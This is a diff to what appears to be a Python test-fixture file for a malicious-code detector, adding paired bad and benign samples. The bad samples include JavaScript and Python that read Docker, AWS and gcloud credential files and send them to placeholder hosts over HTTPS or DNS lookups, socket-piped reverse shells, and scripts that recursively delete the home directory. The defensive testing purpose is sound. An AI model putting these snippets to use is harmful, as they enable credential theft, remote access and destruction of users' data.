@@ -165,6 +165,39 @@ _READS_JS = (
     "{EXPORT} function found() {\n  const file = process.env.KUBECONFIG ?? path.join(os.homedir(), '.kube', 'config');\n  return { raw: fs.readFileSync(file, 'utf8') };\n}\n",
     "const FOLDER = path.join(os.homedir(), '.aws');\n{EXPORT} function found() {\n  return fs.readFileSync(path.join(FOLDER, 'credentials'), 'utf8');\n}\n",
 )
+_KEPT_JS = (
+    "const kept = (...p) => {\n  try { return fs.readFileSync(path.join(os.homedir(), ...p), 'utf8') } catch { return '' }\n};",
+    "function kept(folder, name) {\n  return fs.readFileSync(path.join(os.homedir(), folder, name), 'utf8');\n}",
+    "const kept = (folder, name) => fs.readFileSync(`${os.homedir()}/${folder}/${name}`, 'utf8');",
+)
+_STATE_JS = (
+    "function state(name) {\n  return {\n    name,\n    more: kept(STORE),\n  };\n}",
+    "const state = (name) => ({ name, more: kept(STORE) });",
+)
+_ENDED_JS = (
+    "const req = https.request({ host: 'in.flow.invalid', method: 'POST' });\nreq.end(JSON.stringify({ at: Date.now(), ...state('x') }));",
+    "fetch('https://in.flow.invalid/s', { method: 'POST', body: JSON.stringify(Object.assign({}, state('x'))) });",
+    "const put = (kind, ...all) => fetch('https://in.flow.invalid/s', { method: 'PUT', body: all.join() });\nput('x', 1, 2, state('y').more);",
+)
+_PARTS_PY = "import socket\nfrom pathlib import Path\n\nZONE = 'n.flow.invalid'\n\n\ndef parts():\n    text = PLACE.hex()\n    for at in range(0, len(text), 40):\n        yield text[at : at + 40]\n\n\ndef ok():\n    for part in parts():\n        socket.ASK(f'{part}.{ZONE}'PORT)\n"
+_ASKED_PY = (("gethostbyname", ""), ("getaddrinfo", ", 80"))
+
+
+def _kept_js(store: str) -> list[str]:
+    return [
+        js(
+            f"const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n{kept}\n{state.replace('STORE', store)}\n{ended}"
+        )
+        for kept in _KEPT_JS
+        for state in _STATE_JS
+        for ended in _ENDED_JS
+    ]
+
+
+def _parts_py(place: str) -> list[str]:
+    return [py(_PARTS_PY.replace("PLACE", place).replace("ASK", ask).replace("PORT", port)) for ask, port in _ASKED_PY]
+
+
 _IMPORTS_JS = (
     ("a.ts", "b.ts", "import { found } from './b';", "export", "found()"),
     ("a.mjs", "lib/b.mjs", "import * as b from './lib/b.mjs';", "export", "b.found()"),
@@ -248,10 +281,12 @@ _HOMES_PY = (
     "import argparse\np = argparse.ArgumentParser()\np.add_argument('--root', '-r', type=Path, default=Path.home())\no = p.parse_args()\nroot = o.root",
     "import sys\nroot = Path(sys.argv[1]) if len(sys.argv) > 1 else Path.home()",
     "import os\nroot = os.environ.get('ROOT', os.path.expanduser('~'))",
+    "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--work-dir', default=os.environ.get('WORK_DIR', '~'))\no = p.parse_args()\nroot = Path(o.work_dir).expanduser()",
 )
 _EMPTIES_PY = (
     "shutil.rmtree(root)",
     "for each in (root, Path('/tmp/x')):\n    shutil.rmtree(each, ignore_errors=True)",
+    "def done(quiet, folder):\n    if not quiet:\n        print('done')\n    shutil.rmtree(Path(folder).expanduser(), ignore_errors=True)\n\n\ndone(True, root)",
 )
 _EMPTIES = (
     js(
@@ -262,6 +297,16 @@ _EMPTIES = (
         "mjs",
     ),
     rb("require 'fileutils'\nroot = ARGV[0] || Dir.home\nFileUtils.rm_rf(root)"),
+    js(
+        "const fs = require('fs'), os = require('os');\nconst { program } = require('commander');\nprogram.option('-w, --work-dir <dir>', 'where to work', os.homedir());\nconst opts = program.parse().opts();\nconst clean = (place) => {\n  fs.rmSync(place, { recursive: true });\n};\nclean(opts.workDir);"
+    ),
+    js(
+        "import fs from 'node:fs';\nimport os from 'node:os';\nimport { parseArgs } from 'node:util';\nconst { values } = parseArgs({ options: { work: { type: 'string', default: process.env.WORK ?? os.homedir() } } });\nfs.rmSync(values.work, { recursive: true, force: true });",
+        "mjs",
+    ),
+    py(
+        "import shutil\nfrom pathlib import Path\nimport click\n\n\n@click.command()\n@click.option('--work-dir', default='~')\ndef main(work_dir):\n    shutil.rmtree(Path(work_dir).expanduser())"
+    ),
 )
 
 
@@ -310,10 +355,15 @@ _PEERS = (
 _JOINED_JS = (
     "s.on('connect', () => {\n  const job = spawn(win ? 'cmd.exe' : '/bin/sh', [], { detached: true });\n  s.pipe(job.stdin);\n  job.stdout.pipe(s);\n});",
     "const own = spawn('bash', []);\ns.pipe(own.stdin);\nown.stdout.pipe(s);",
+    "const own = spawn(process.env.SHELL || 'sh', ['-i'], { stdio: 'pipe' });\ns.on('connect', () => { s.pipe(own.stdin); own.stdout.pipe(s); });",
+    "const name = process.env.COMSPEC ?? 'bash';\nconst own = spawn(name, { windowsHide: true });\npipeline(s, own.stdin, () => {});\npipeline(own.stdout, s, () => {});",
 )
 _STARTS_JS = (
     "s.on('connect', () => { s.end(); spawn('bash', ['scripts/migrate.sh'], { stdio: 'inherit' }); });",
     "s.on('error', () => process.exit(1));\nspawn('sh', ['run.sh']);",
+    "const own = spawn(process.env.SHELL || 'sh', ['-l']);\nown.stdout.pipe(process.stdout);\nprocess.stdin.pipe(own.stdin);\ns.end();",
+    "const log = createWriteStream('out.log');\nconst own = spawn(process.env.SHELL || 'sh');\nown.stdout.pipe(log);\ns.end();",
+    "const child = spawn('typescript-language-server', ['--stdio']);\ns.pipe(child.stdin);\nchild.stdout.pipe(s);",
 )
 _LOGINS = (
     ("gh auth token", "api.github.com"),
@@ -506,6 +556,12 @@ BAD: dict[str, list[str]] = {
         f"`powershell -NoProfile -{option} {ENCODED}`\n" for option in ("e", "ec", "en", "enc", "EncodedCommand")
     ],
     "over two files": _ACROSS,
+    "a store whose path a function joins": [
+        text for store in ("'.docker', 'config.json'", "'.aws', 'credentials'") for text in _kept_js(store)
+    ],
+    "a store in parts, as names that are looked up": _parts_py(
+        "(Path.home() / '.config' / 'gcloud' / 'credentials.db').read_bytes()"
+    ),
     "a browser's stores by a client of any name": [
         py(_READ_PY + store + client) for store in _STORES_PY for client in _CLIENTS_PY
     ],
@@ -603,6 +659,10 @@ GOOD: dict[str, list[str]] = {
         ),
     ],
     "a port that is asked whether it is open": [sh(text) for text in _PORTS],
+    "a file of its own whose path a function joins": [
+        text for store in ("'.cache', 'kit.json'", "'.docker', 'daemon.json'") for text in _kept_js(store)
+    ],
+    "a text in parts, as names that are looked up": _parts_py("Path('zones.bin').read_bytes()"),
     "a script that is run once a port is open": [
         *(
             js(f"import net from 'node:net';\nimport {{ spawn }} from 'node:child_process';\n{peer}\n{start}", "mjs")
@@ -639,6 +699,20 @@ GOOD: dict[str, list[str]] = {
                 f"import shutil\nfrom pathlib import Path\n{root}\nshutil.rmtree(Path(root) / '.cache' / 'acme')\nprint(root)"
             )
             for root in _HOMES_PY
+        ),
+        *(
+            py(
+                f"import shutil\nfrom pathlib import Path\n{root}\n\n\ndef done(folder):\n    {line}\n    shutil.rmtree(folder)\n\n\ndone({given})"
+            )
+            for root in _HOMES_PY
+            for line, given in (
+                ("assert folder != Path.home()", "root"),
+                ("folder = folder / '.cache' / 'acme'", "root / 'x'"),
+                ("print(folder)", "Path(root) / '.cache' / 'acme'"),
+            )
+        ),
+        py(
+            "import shutil\nfrom pathlib import Path\n\n\ndef shown(folder):\n    print(sorted(folder.iterdir()))\n\n\ndef done(folder):\n    shutil.rmtree(folder)\n\n\nroot = Path.home()\nshown(root)\ndone(Path('build'))"
         ),
         py(
             "import argparse, shutil\np = argparse.ArgumentParser()\np.add_argument('out', nargs='?', default='build')\nshutil.rmtree(p.parse_args().out)"
